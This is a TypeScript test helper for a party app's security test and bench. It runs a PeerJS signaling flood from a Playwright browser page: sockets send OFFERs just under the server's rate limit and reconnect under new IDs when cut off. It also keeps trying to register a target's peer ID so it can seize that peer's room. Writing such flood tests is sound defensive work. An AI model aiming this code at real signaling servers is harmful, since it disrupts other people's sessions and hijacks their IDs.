// One device on the party's Wi-Fi that floods peer IDs with OFFERs, for
// tests/security/flood.spec.ts and the bench (bench/bench-lan.ts).
//
// It speaks PeerJS's wire protocol on raw WebSockets, no library: every OFFER
// carries one real SDP offer (made once by an RTCPeerConnection of its own),
// so a PeerJS peer that gets it answers it with a real ANSWER and candidates,
// as it would a phone's. Each socket sends 40 OFFERs a second, just under the
// rate at which the server cuts a socket off, so the flood lasts; a socket
// that is cut off all the same is replaced by a new one under a new ID, as a
// motivated attacker's loop would. Beside the flood, it tries every 300 ms to register
// the first target's ID, so a TV knocked off signaling loses its room to it.
import type { BrowserContext, Page } from '@playwright/test';

export interface FloodCounts {
  /** OFFERs written to sockets. */
  sent: number;
  /** Sockets opened, and those the server refused or cut off. */
  sockets: number;
  refused: number;
  /** ANSWERs the targets sent back: OFFERs that reached a peer and were answered. */
  answers: number;
  /** Registrations of the first target's ID tried, and whether one got it. */
  grabs: number;
  tookId: boolean;
}

export interface OfferFlood {
  counts(): Promise<FloodCounts>;
  stop(): Promise<FloodCounts>;
}

/** A device for the attacker: anything with Playwright's newContext (a DeviceLan). */
interface Devices {
  newContext(options?: { label?: string }): Promise<BrowserContext>;
}

/**
 * Starts the flood from a device of its own against `targets` (peer IDs) on
 * the party server at `origin`, with `sockets` sockets at a time.
 */
export async function startOfferFlood(devices: Devices, origin: string, targets: string[], sockets = 4): Promise<OfferFlood> {
  const context = await devices.newContext({ label: 'flooder' });
  const page: Page = await context.newPage();
  await page.goto(new URL('/signaling.json', origin).href);
  // Page code as text: tsx (the bench) would wrap named functions in a helper the page does not have.
  await page.evaluate(`(async () => {
    const targets = ${JSON.stringify(targets)};
    const base = 'ws://' + location.host + '/peerjs/peerjs?key=citysleeps';
    const w = window;
    w.flood = { sent: 0, sockets: 0, refused: 0, answers: 0, grabs: 0, tookId: false, running: true };
    const pc = new RTCPeerConnection({ iceServers: [] });
    pc.createDataChannel('x');
    const offer = await pc.createOffer();
    const random = () => Math.random().toString(36).slice(2, 12);
    const flooder = () => {
      if (!w.flood.running) return;
      w.flood.sockets += 1;
      const socket = new WebSocket(base + '&id=citysleeps-f' + random() + '&token=' + random());
      let open = false;
      let timer = null;
      socket.onmessage = (event) => {
        const message = JSON.parse(event.data);
        if (message.type === 'OPEN') {
          open = true;
          const burst = () => {
            if (!w.flood.running || socket.readyState !== 1) return;
            for (let i = 0; i < 2; i++) {
              const dst = targets[(w.flood.sent + i) % targets.length];
              socket.send(JSON.stringify({ type: 'OFFER', dst, payload: { sdp: { type: 'offer', sdp: offer.sdp }, type: 'data', connectionId: 'dc_' + random(), label: 'dc_' + random(), reliable: true, serialization: 'raw', browser: 'chrome' } }));
            }
            w.flood.sent += 2;
            timer = setTimeout(burst, 50);
          };
          burst();
        } else if (message.type === 'ANSWER') w.flood.answers += 1;
      };
      socket.onclose = () => {
        if (timer) clearTimeout(timer);
        if (!open) w.flood.refused += 1;
        setTimeout(flooder, open ? 0 : 250);
      };
    };
    for (let i = 0; i < ${sockets}; i++) flooder();
    const grab = () => {
      if (!w.flood.running || w.flood.tookId) return;
      w.flood.grabs += 1;
      const socket = new WebSocket(base + '&id=' + targets[0] + '&token=' + random());
      socket.onmessage = (event) => {
        if (JSON.parse(event.data).type === 'OPEN') w.flood.tookId = true;
        else socket.close();
      };
      socket.onclose = () => setTimeout(grab, 300);
    };
    grab();
  })()`);
  const counts = () => page.evaluate('({ ...window.flood })') as Promise<FloodCounts>;
  return {
    counts,
    stop: async () => {
      await page.evaluate('window.flood.running = false');
      const last = await counts();
      await context.close();
      return last;
    },
  };
}
